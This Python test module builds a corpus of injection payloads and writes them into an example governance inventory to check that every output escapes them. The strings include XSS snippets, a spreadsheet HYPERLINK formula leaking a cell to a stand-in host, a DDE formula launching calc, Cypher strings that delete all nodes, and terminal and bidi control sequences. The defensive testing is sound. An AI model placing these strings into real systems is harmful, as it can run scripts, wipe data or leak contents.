"""Hostile inventory text, kept as a corpus: what an attacker (or an unlucky copy and
paste) could put in any text field, grouped by the consumer it aims at. ``write`` turns
the example organisation into an inventory where every free-text field, a few ids, a
source file name and the folder name itself carry these payloads, so one render of each
output shows all of them."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import yaml

from graphgov import examples
from graphgov.display import printable
from graphgov.schema import load_schema

HTML = (
    "<script>window.__xss = 1</script>",
    '<img src=x onerror="window.__xss = 2">',
    '"><svg onload="window.__xss = 3">',
    "' onmouseover='window.__xss = 4' x='",
    "javascript:window.__xss = 5",
    '<a href="javascript:window.__xss = 6">click</a>',
    "</style><script>window.__xss = 7</script>",
    "</title></textarea></script><script>window.__xss = 8</script>",
    '<iframe srcdoc="<script>parent.__xss = 9</script>"></iframe>',
    '<link rel="stylesheet" href="https://example.invalid/x.css">',
    "<img src=https://example.invalid/beacon.png>",
    "<style>body { background: url(https://example.invalid/bg) }</style>",
    "x; background: url('https://example.invalid/'); } * { display: none",
    "<!-- comment --> <![CDATA[ cdata ]]> <?php echo 1 ?>",
    "<marker-element id=injected></marker-element><div id=injected>injected</div>",
)
TEMPLATE = (
    "{{7*7}} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "{% for x in range(9) %}x{% endfor %} {# comment #} {% raw %}",
)
MARKDOWN = (
    "| cell | injection |",
    "line one\nline two\n\n## heading injected\n\n| a | b |\n|---|---|",
    "# leading heading ##",
    "[click me](javascript:window.__xss = 10)",
    "![tracker](https://example.invalid/pixel.png)",
    "`code` ``` fence ``` ~~strike~~",
    "**bold** _em_ <b>bold</b> <details open>summary</details>",
    "- item\n> quote\n1. ordered\n===",
    "1. starts like a list",
    "<https://example.invalid/autolink> [ref]: https://example.invalid/",
)
SPREADSHEET = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://example.invalid/?leak="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "x\t=1+1\r=2+2",
)
CYPHER = (
    "x'}) MATCH (n) DETACH DELETE n //",
    'x"}) MATCH (n) DETACH DELETE n //',
    "back\\slash \\' \\\" \\u0041 \\n \\",
    "`backtick` label`) DETACH DELETE n //",
    "$param {param} $$ ${x}",
    "/* not a comment */ -- nor this ; semicolon",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared",
    "\x1b]0;pwned title\x07 window title",
    "\x1b]8;;https://example.invalid/\x1b\\link\x1b]8;;\x1b\\ hyperlink",
    "nul\x00byte",
    "bell\x07 backspace\x08\x08\x08 del\x7f vt\x0b ff\x0c end",
    "\x9b31m C1 CSI \x9d0;c1 title\x9c and \x85 NEL",
)
INVISIBLE = (
    "\u202eevil.exe\u202c txt.exe",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first strong\u2069",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff joiner",
    "line\u2028separator\u2029paragraph",
)
DATA = (
    "long " + "A" * 5000,
    "emoji 😀🏳️‍🌈 \U0001d54f non-BMP \U0010fffd",
    "unicode é ü 中文 العربية עברית",
    '{"json": "break"}\\", "x": "\\u0000',
    "]]> & &amp; &#x3C;script&#x3E; <?xml version='1.0'?>",
    '"quoted", with, commas\r\nand "" doubled',
)
PAYLOADS: tuple[str, ...] = (
    *HTML,
    *TEMPLATE,
    *MARKDOWN,
    *SPREADSHEET,
    *CYPHER,
    *TERMINAL,
    *INVISIBLE,
    *DATA,
)
# the example's ids, as hostile as an id may be: nothing printable() would escape, no
# ';', no surrounding spaces, at most 200 characters
IDS = {
    "credit-scoring": "credit-scoring<script>window.__xss=11</script>'\"|#[x](javascript:1)",
    "openai": "openai'}) MATCH (n) DETACH DELETE n // `tick` $param {{7*7}}",
    "bureau-data": '<img src=x onerror=window.__xss=12> | =HYPERLINK("x") 😀',
    "ev-ai-policy": "=1+1 ]]> & \\ end",
    "ctl-credit-oversight": "@SUM(1) </style> **x**",
}
FOLDER = "acme \x1b]0;folder title\x07 \u202e<b>|#[x]"
RENAMED = {"systems/fraud.yaml": "systems/\x1b[35m<img src=x onerror=window.__xss=13>\u202e.yaml"}

assert len(PAYLOADS) >= 40 and all(p == p.strip() for p in PAYLOADS)  # loaders strip
assert all(len(i) <= 200 and i == i.strip() == printable(i) and ";" not in i for i in IDS.values())


def write(parent: Path) -> Path:
    """The example organisation under ``parent``/FOLDER, every free-text field holding a
    payload (the names cycling through all of them), a few hostile ids and a hostile file
    name; returns the folder."""
    source = parent / "example"
    examples.write("acme", source)
    root = parent / FOLDER
    schema = load_schema()
    free = {
        p.name
        for spec in schema.labels.values()
        for p in spec.writable
        if p.datatype == "string" and not p.allowed and p.name != "id"
    }
    props = {p.name for spec in schema.labels.values() for p in spec.writable}
    counters = {name: i * 7 for i, name in enumerate(sorted(free))}
    for path in sorted(source.rglob("*")):
        if path.suffix not in (".yaml", ".csv"):
            continue
        relative = path.relative_to(source).as_posix()
        records = _records(path)
        for record in records:
            for field, value in list(record.items()):
                if field in free:
                    record[field] = PAYLOADS[counters[field] % len(PAYLOADS)]
                    counters[field] += 1
                elif field == "id" or (field not in props and field != "kind"):
                    record[field] = _renamed(value)
        relative = RENAMED.get(
            relative, relative.removesuffix(".csv").removesuffix(".yaml") + ".yaml"
        )
        target = root / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        # double quotes everywhere: every character is written as a YAML escape
        target.write_text(
            yaml.safe_dump(records, allow_unicode=False, default_style='"', width=10**6),
            encoding="utf-8",
        )
    return root


def _records(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".yaml":
        docs = list(yaml.safe_load_all(path.read_text(encoding="utf-8")))
        return [r for d in docs for r in (d if isinstance(d, list) else [d])]
    kind = {s.plural: s.kind for s in load_schema().labels.values()}.get(path.stem, path.stem)
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    out = []
    for row in rows:
        record: dict[str, Any] = {"kind": kind}
        for field, cell in row.items():
            if cell.strip():
                record[field] = cell.split(";") if ";" in cell else cell
        out.append(record)
    return out


def _renamed(value: Any) -> Any:
    if isinstance(value, list):
        return [_renamed(v) for v in value]
    return IDS.get(value, value) if isinstance(value, str) else value


def unsafe(text: str) -> list[str]:
    """The characters in ``text`` that could act on a terminal or hide text (line
    breaks and tabs allowed)."""
    return sorted({c for c in text if c not in "\n\t" and printable(c) != c})


def shown(text: str) -> str:
    """How a text-oriented output shows ``text``: escaped, whitespace runs as one space."""
    return " ".join(printable(text).split())
